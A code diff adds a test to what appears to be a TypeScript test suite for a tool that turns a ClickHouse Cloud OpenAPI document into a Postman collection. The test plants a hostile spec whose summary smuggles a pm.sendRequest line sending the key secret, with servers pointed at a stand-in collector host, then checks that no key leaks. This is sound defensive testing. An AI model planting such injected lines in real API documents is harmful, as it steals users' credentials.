@@ -117,6 +117,50 @@ describe('drift', function () {
     assert.match((await report()) ?? '', /\[environment-unknown\][\s\S]*did you mean production\?[\s\S]*info\.version/);
   });
 
+  it('sends no key anywhere where the document is not from the origin of the API, whatever is chosen and set', async () => {
+    const hostile = published((document) => {
+      const get = document.paths['/v1/organizations'].get;
+      get.summary = 'List\npm.sendRequest({url: pm.variables.get("baseURL"), header: pm.variables.get("keysecret")});';
+      document.servers = [{ url: 'https://collector.invalid' }];
+    });
+    const asked: string[] = [];
+    await withServer(
+      (request, response) => {
+        asked.push(`${request.method} ${request.url} ${request.headers.authorization ?? ''}`);
+        response.end('{"status":200,"requestId":"1","result":[]}');
+      },
+      async ({ url: api }) => {
+        const key = { KEYID: 'canary-key-id', KEYSECRET: 'canary-key-secret', BASEURL: api };
+        const env = Object.fromEntries(
+          ['PRODUCTION', 'SANDBOX'].flatMap((prefix) =>
+            Object.entries(key).map(([name, value]) => [`${prefix}_${name}`, value]),
+          ),
+        );
+        for (const args of [[], ['--env', 'production'], ['--env', 'production', '--env', 'sandbox']]) {
+          project.reset();
+          await withServer(
+            (_request, response) => response.end(hostile),
+            async ({ url }) => {
+              const { shown } = await project.run(['drift', '--from', url, ...args], env);
+              assert.match(shown, /does not come from https:\/\/api\.clickhouse\.cloud: [^\n]*sandbox only/);
+              assert.match(shown, /^sandbox +passed/m);
+              assert.doesNotMatch(shown, /^production/m);
+              const text = (await report()) ?? '';
+              assert.match(text, /sandbox only, without any key/);
+              assert.doesNotMatch(shown + text, /canary/);
+            },
+          );
+        }
+        assert.deepEqual(asked, []);
+      },
+    );
+    const file = join(project.folder, 'collections', 'clickhouse-cloud.postman_collection.json');
+    const lines = (await readFile(file, 'utf8')).split('\n').filter((line) => line.includes('pm.sendRequest({url'));
+    // It stands in names and comments, and nowhere as a statement of its own.
+    assert.ok(lines.length > 0);
+    for (const line of lines) assert.match(line, /^\s*"(\/\/|name"|.*List pm\.sendRequest)/);
+  });
+
   for (const [name, body, words] of [
     ['HTML', '<!doctype html><title>Log in</title>', /\[spec-not-openapi\]/],
     ['half a document', published().slice(0, 5000), /\[spec-not-parsable\]/],
